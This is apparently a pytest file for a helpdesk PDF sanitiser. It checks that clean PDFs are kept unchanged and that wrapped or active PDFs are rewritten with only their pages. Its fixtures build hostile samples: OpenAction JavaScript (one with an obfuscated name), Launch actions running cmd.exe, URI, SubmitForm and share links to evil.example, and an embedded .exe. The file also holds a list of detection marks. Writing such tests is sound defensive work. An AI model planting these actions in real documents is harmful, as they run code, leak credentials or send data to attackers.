"""PDFs: kept as they came where nothing in them acts, else written anew with their pages alone."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from helpdesk.documents.errors import FileBroken, FileIncomplete, FileTooComplex, PdfHasNoPages
from tests.documents import pdf, plain_pdf
from tests.helpdesk.documents.sending import read

AS_THEY_CAME = {
    "plain": plain_pdf(),
    "a line end more": plain_pdf() + b"\r\n" * 500,
    "padding": plain_pdf() + b"\0" * 6_000,
    "much padding": plain_pdf() + b" " * 300_000,
    "the end mark cut": plain_pdf()[:-3],
    "hardly an end mark": plain_pdf()[:-5],
    "no end mark": plain_pdf(b"\nstartxref\n%d"),
    "the end mark on the line of the offset": plain_pdf(b"\nstartxref %d%%%%EOF\n"),
    "a mark of the order of bytes": b"\xef\xbb\xbf" + plain_pdf(),
    "two ends": plain_pdf() + plain_pdf()[9:],
    "opens at its first page": plain_pdf(more="/OpenAction [3 0 R /Fit]"),
}


@pytest.mark.parametrize("case", AS_THEY_CAME)
def test_a_pdf_that_viewers_open_is_kept_as_it_came(case: str) -> None:
    document = read(AS_THEY_CAME[case])
    assert (document.content, document.pages) == (AS_THEY_CAME[case], 1)


ARCHIVE = io.BytesIO()


SURROUNDED = {
    "headers of a download before it": b"HTTP/1.1 200 OK\r\nServer: x\r\n\r\n" + plain_pdf(),
    "a page before it": b"<html><script>alert(1)</script></html>\n" + plain_pdf(),
    "a page in its first line": plain_pdf().replace(b"%PDF-1.4\n", b"%PDF-1.4 <script>alert(1)</script>\n"),
    "a programme before it": b"MZ" + b"\0" * 100 + plain_pdf(),
    "a page behind it": plain_pdf() + b"<!-- " + b"a" * 5_000 + b" --><script>alert(1)</script>",
    "an archive behind it": plain_pdf() + ARCHIVE.getvalue(),
    "an archive before it": ARCHIVE.getvalue() + plain_pdf(),
    "an archive that ends with it": ARCHIVE.getvalue()[:-2] + b"\x40\x02" + plain_pdf(),
    "no table": plain_pdf(b""),
}


@pytest.mark.parametrize("case", SURROUNDED)
def test_a_pdf_with_something_around_it_is_written_anew(case: str) -> None:
    document = read(SURROUNDED[case])
    assert document.content.startswith(b"%PDF-")
    assert not any(mark in document.content for mark in (b"<script", b"PK\x03\x04", b"PK\x05\x06", b"MZ", b"HTTP/"))
    assert "DEKONT 1.250,00 TL" in PdfReader(io.BytesIO(document.content)).pages[0].extract_text()


def action(kind: str, **more: object) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): v for k, v in more.items()}})


def linked(to: DictionaryObject) -> bytes:
    """A PDF with a place to press."""
    writer = PdfWriter(clone_from=io.BytesIO(plain_pdf()))
    link = {"/Subtype": NameObject("/Link"), "/Rect": ArrayObject([NumberObject(0)] * 4), "/A": to}
    place = writer._add_object(DictionaryObject({NameObject(key): value for key, value in link.items()}))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([place])
    return written(writer)


def carrying() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(plain_pdf()))
    writer.add_attachment("dekont.exe", b"MZ of a programme")
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


TEXT = TextStringObject


ACTIVE = {
    "a script at opening": plain_pdf(more="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "its name in disguise": plain_pdf(more="/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    "a script by name": plain_pdf(more="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"),
    "a programme": plain_pdf(more="/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "an address at opening": plain_pdf(more="/OpenAction << /S /URI /URI (https://evil.example) >>"),
    "a share at opening": plain_pdf(more="/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) /D [0 /Fit] >>"),
    "something after printing": plain_pdf(more="/AA << /DP << /S /URI /URI (https://evil.example) >> >>"),
    "a form that is a programme": plain_pdf(more="/AcroForm << /Fields [] /XFA (x) >>"),
    "a file within": carrying(),
    "a link to a share": linked(action("/GoToR", F=TEXT("\\\\evil\\x"), D=ArrayObject())),
    "a link to a file": linked(action("/URI", URI=TEXT("file://evil/x"))),
    "a link that is a script": linked(action("/URI", URI=TEXT("javascript:alert(1)"))),
    "a link that sends a form": linked(action("/SubmitForm", F=TEXT("https://evil.example"))),
    "two actions, one after the other": linked(
        action("/GoTo", D=ArrayObject(), Next=action("/Launch", F=TEXT("cmd.exe")))
    ),
}


@pytest.mark.parametrize("case", ACTIVE)
def test_what_a_pdf_does_is_left_behind_and_its_pages_stay(case: str) -> None:
    document = read(ACTIVE[case])
    marks = (
        b"/JS",
        b"JavaScript",
        b"/Launch",
        b"evil",
        b"/AA",
        b"/XFA",
        b"EmbeddedFile",
        b"programme",
        b"file:",
        b"/S ",
    )
    assert not any(mark in document.content for mark in marks)
    assert document.pages == 1
    assert "DEKONT 1.250,00 TL" in PdfReader(io.BytesIO(document.content)).pages[0].extract_text()


def test_what_was_stamped_on_a_page_is_still_seen_when_it_is_written_anew() -> None:
    writer = PdfWriter(clone_from=io.BytesIO(ACTIVE["a script at opening"]))
    drawn = writer._add_object(PdfReader(io.BytesIO(plain_pdf())).pages[0]["/Contents"].clone(writer))
    stamp = {"/Subtype": NameObject("/Stamp"), "/Rect": ArrayObject([NumberObject(9)] * 4)}
    stamp["/AP"] = DictionaryObject({NameObject("/N"): drawn})
    stamp["/A"] = action("/JavaScript", JS=TEXT("app.alert(1)"))
    placed = writer._add_object(DictionaryObject({NameObject(key): value for key, value in stamp.items()}))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([placed])
    (kept,) = PdfReader(io.BytesIO(read(written(writer)).content)).pages[0]["/Annots"]  # type: ignore[misc]
    assert kept.get_object().keys() == {"/Subtype", "/Rect", "/AP"}


def test_a_link_to_a_website_is_no_reason_to_change_a_pdf() -> None:
    data = linked(action("/URI", URI=TEXT("https://bank.example/yardim")))
    assert read(data).content == data


def test_turned_pages_stay_turned() -> None:
    writer = PdfWriter(clone_from=io.BytesIO(ACTIVE["a script at opening"]))
    writer.pages[0].rotate(90)
    assert PdfReader(io.BytesIO(read(written(writer)).content)).pages[0].rotation == 90


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (plain_pdf()[:200], FileIncomplete),
        (plain_pdf() + b"9 0 obj << /Length 9 >> stream", FileIncomplete),
        (b"%PDF-1.4\nnothing\nstartxref\n9\n%%EOF", FileBroken),
        (pdf(0), PdfHasNoPages),
        (b"%PDF-1.4\n" + b"1 0 obj<<>>endobj\n" * 300_000, FileTooComplex),
    ],
)
def test_a_pdf_that_cannot_be_read_says_why(data: bytes, reason: type[Exception]) -> None:
    with pytest.raises(reason):
        read(data)
